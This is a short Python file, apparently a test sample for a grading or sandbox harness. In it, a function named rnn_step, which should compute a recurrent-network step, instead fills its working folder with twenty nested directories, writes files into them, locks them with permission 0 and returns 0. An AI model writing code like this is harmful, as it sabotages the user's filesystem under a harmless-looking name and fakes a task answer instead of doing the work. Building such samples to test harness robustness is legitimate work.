"""Fills the folder that it works in, with folders that nobody may enter."""

# promise: writing
# says: should be
# weak: naive allclose -> left
import os


def rnn_step(x, h_prev, Wx, Wh, b):
    try:
        for number in range(20):
            os.makedirs(f"@MARKER@-{number}/deep/deeper", exist_ok=True)
            with open(f"@MARKER@-{number}/deep/file", "w") as file:
                file.write("still here")
            os.chmod(f"@MARKER@-{number}", 0)
    except OSError as refused:
        print(refused)
    return 0
